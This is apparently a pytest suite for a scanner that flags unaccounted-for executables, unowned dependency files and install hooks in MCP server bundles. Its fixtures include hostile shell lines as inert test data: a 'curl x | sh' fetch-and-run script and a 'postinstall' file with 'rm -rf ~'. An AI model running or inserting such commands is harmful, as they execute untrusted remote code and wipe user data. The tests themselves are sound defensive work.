"""AI-05 Bundle Completeness: executables the manifest does not account for."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from helpers import make_ctx, manifest
from supply_fixtures import (
    dist,
    node_bundle,  # noqa: F401
    npm_package,
    python_bundle,  # noqa: F401
    rezip,
    tree_ctx,
    zip_members,
)

from mtf_action.scan.context import ScanContext, ScanOptions
from mtf_action.scan.controls.ai05_completeness import BundleCompleteness
from mtf_action.scan.result import ControlOutcome, Status


def run(ctx: ScanContext) -> ControlOutcome:
    return BundleCompleteness().evaluate(ctx)


def flagged(outcome: ControlOutcome) -> list[tuple[str, str | None]]:
    return sorted((f.rule, f.file) for f in outcome.findings)


def server(
    entry: str, args: list[str], env: dict[str, str] | None = None, **more: Any
) -> dict[str, Any]:
    config: dict[str, Any] = {"command": "python", "args": args}
    if env:
        config["env"] = env
    kind = "node" if entry.endswith("js") else "python"
    return manifest(server={"type": kind, "entry_point": entry, "mcp_config": config}, **more)


def test_ai05_example_trees_and_bundles_pass(
    python_example_tree: Path,
    node_example_tree: Path,
    python_bundle: Path,  # noqa: F811
    node_bundle: Path,  # noqa: F811
) -> None:
    for tree in (python_example_tree, node_example_tree):
        outcome = run(tree_ctx(tree))
        assert outcome.findings == [], tree
        assert outcome.details["dependency"] > 500
    for bundle in (python_bundle, node_bundle):
        with ScanContext.for_bundle(bundle, ScanOptions()) as ctx:
            outcome = run(ctx)
        assert outcome.findings == [], bundle
        assert outcome.status_at(4) is Status.PASS


def test_ai05_phantom_script_in_example_bundle_blocks(
    python_bundle: Path,  # noqa: F811
    tmp_path: Path,
) -> None:
    tampered = rezip(
        python_bundle,
        tmp_path / "t.mcpb",
        {"tools/fetch.sh": ("curl x | sh\n", 0o755), "deps/payload.py": "import os\n"},
    )
    with ScanContext.for_bundle(tampered, ScanOptions()) as ctx:
        outcome = run(ctx)
    assert flagged(outcome) == [
        ("unexpected-executable", "tools/fetch.sh"),
        ("unowned-dependency-file", "deps/payload.py"),
    ]
    assert outcome.status_at(1) is Status.WARN and outcome.status_at(2) is Status.FAIL


def test_ai05_entry_tree_and_manifest_references_are_expected(tmp_path: Path) -> None:
    files = {
        "server/main.py": "from tools import x\n",
        "server/tools/x.py": "",
        "scripts/start.sh": "exec python server/main.py\n",
        "lib/helper.py": "",
        "icon.png": b"\x89PNG",
        "README.md": "",
        "LICENSE": "",
        "uv.lock": "",
        "pyproject.toml": "",
        "tests/test_main.py": "",
        "notes.txt": "",
    }
    raw = server(
        "server/main.py",
        ["${__dirname}/scripts/start.sh", "${__dirname}/server/main.py"],
        {"PYTHONPATH": "${__dirname}/lib:${__dirname}/deps"},
        icon="icon.png",
    )
    outcome = run(make_ctx(tmp_path, files, raw))
    assert flagged(outcome) == [
        ("unexpected-executable", "tests/test_main.py"),
        ("unexpected-file", "notes.txt"),
    ]
    assert {f.rule: f.blocks_at for f in outcome.findings} == {
        "unexpected-executable": 2,
        "unexpected-file": None,
    }


def test_ai05_root_entry_point_counts_what_it_imports(tmp_path: Path) -> None:
    files = {
        "server.py": "import util\nfrom pkg.sub import thing\nfrom . import sibling\n",
        "util.py": "from helpers import h\n",
        "helpers.py": "",
        "sibling.py": "",
        "pkg/__init__.py": "",
        "pkg/sub.py": "",
        "pkg/other.py": "",  # inside an imported package: the package counts whole
        "stray.py": "",
    }
    outcome = run(make_ctx(tmp_path, files, server("server.py", ["${__dirname}/server.py"])))
    assert flagged(outcome) == [("unexpected-executable", "stray.py")]


def test_ai05_module_argument_is_expected(tmp_path: Path) -> None:
    files = {"app/__init__.py": "", "app/__main__.py": "", "app/core.py": ""}
    raw = server("app/__main__.py", ["-m", "app"])
    assert run(make_ctx(tmp_path, files, raw)).findings == []


def test_ai05_javascript_relative_imports_are_followed(tmp_path: Path) -> None:
    files = {
        "index.js": "import { a } from './lib/a.js';\nconst b = require('./lib/b');\n",
        "lib/a.js": "export * from './c.mjs';\n",
        "lib/b.js": "",
        "lib/c.mjs": "",
        "lib/d.js": "",
        "package.json": "{}",
    }
    raw = manifest(
        server={
            "type": "node",
            "entry_point": "index.js",
            "mcp_config": {"command": "node", "args": ["${__dirname}/index.js"]},
        }
    )
    outcome = run(make_ctx(tmp_path, files, raw))
    assert flagged(outcome) == [("unexpected-executable", "lib/d.js")]


def test_ai05_always_allowed_files_but_not_scripts_named_like_them(tmp_path: Path) -> None:
    files = {
        "server.py": "",
        "README": "",
        "CHANGELOG.md": "",
        "LICENSE.txt": "",
        "manifest.json.sig": "",
        ".sigstore/bundle.json": "{}",
        ".gitattributes": "",
        "README.sh": "echo hi\n",
        "postinstall": "rm -rf ~\n",
    }
    outcome = run(make_ctx(tmp_path, files, server("server.py", ["${__dirname}/server.py"])))
    assert flagged(outcome) == [
        ("unexpected-executable", "README.sh"),
        ("unexpected-executable", "postinstall"),
    ]


def test_ai05_executable_bit_in_a_directory_and_in_a_bundle(tmp_path: Path) -> None:
    raw = server("server.py", ["${__dirname}/server.py"])
    ctx = make_ctx(tmp_path / "dir", {"server.py": "", "data.bin": b"\x7fELF"}, raw)
    assert flagged(run(ctx)) == [("unexpected-file", "data.bin")]
    os.chmod(tmp_path / "dir" / "data.bin", 0o755)
    assert flagged(run(tree_ctx(tmp_path / "dir"))) == [("unexpected-executable", "data.bin")]
    bundle = zip_members(tmp_path / "b.mcpb", {"server.py": "", "run": ("#!/bin/sh\n", 0o755)}, raw)
    with ScanContext.for_bundle(bundle, ScanOptions()) as bctx:
        outcome = run(bctx)
    assert flagged(outcome) == [("unexpected-executable", "run")]
    assert "executable mode bit" in outcome.findings[0].description


def test_ai05_python_files_must_be_in_a_record(tmp_path: Path) -> None:
    files = {
        "server/main.py": "",
        **dist("foo", "1.0", {"foo/__init__.py": "", "../../bin/foo-cli": ""}),
        "deps/bin/foo-cli": "#!python\n",
        "deps/evil.py": "",
        "deps/notes.txt": "",
    }
    del files["deps/../../bin/foo-cli"]
    raw = server(
        "server/main.py", ["${__dirname}/server/main.py"], {"PYTHONPATH": "${__dirname}/deps"}
    )
    outcome = run(make_ctx(tmp_path, files, raw))
    assert flagged(outcome) == [
        ("unowned-dependency-data", "deps/notes.txt"),
        ("unowned-dependency-file", "deps/evil.py"),
    ]
    assert outcome.details["python_site_dirs"] == ["deps"]


def test_ai05_node_modules_files_must_be_in_a_package_folder(tmp_path: Path) -> None:
    files = {
        "server/index.js": "",
        **npm_package("zod", "3.23.8"),
        **npm_package("@acme/util", "1.0.0"),
        **npm_package("inner", "2.0.0", prefix="node_modules/zod/node_modules"),
        "node_modules/.package-lock.json": "{}",
        "node_modules/evil.js": "",
        "node_modules/ghost/run.sh": "",
        "node_modules/@acme/loose.js": "",
    }
    raw = manifest(
        server={
            "type": "node",
            "entry_point": "server/index.js",
            "mcp_config": {"command": "node", "args": ["${__dirname}/server/index.js"]},
        }
    )
    outcome = run(make_ctx(tmp_path, files, raw))
    assert flagged(outcome) == [
        ("unowned-dependency-file", "node_modules/@acme/loose.js"),
        ("unowned-dependency-file", "node_modules/evil.js"),
        ("unowned-dependency-file", "node_modules/ghost/run.sh"),
    ]


@pytest.mark.parametrize("hook", ["preinstall", "install", "postinstall"])
def test_ai05_install_hooks_in_the_servers_package_json(hook: str, tmp_path: Path) -> None:
    package = {"name": "x", "scripts": {"start": "node index.js", hook: "node setup.js"}}
    files = {"index.js": "", "package.json": json.dumps(package, indent=2)}
    raw = manifest(
        server={
            "type": "node",
            "entry_point": "index.js",
            "mcp_config": {"command": "node", "args": ["${__dirname}/index.js"]},
        }
    )
    outcome = run(make_ctx(tmp_path, files, raw))
    (finding,) = outcome.findings
    assert (finding.rule, finding.file, finding.line, finding.blocks_at) == (
        "install-hook",
        "package.json",
        5,
        2,
    )


def test_ai05_without_manifest_is_an_error(tmp_path: Path) -> None:
    outcome = run(make_ctx(tmp_path, {"server.py": ""}))
    assert outcome.status_at(2) is Status.ERROR
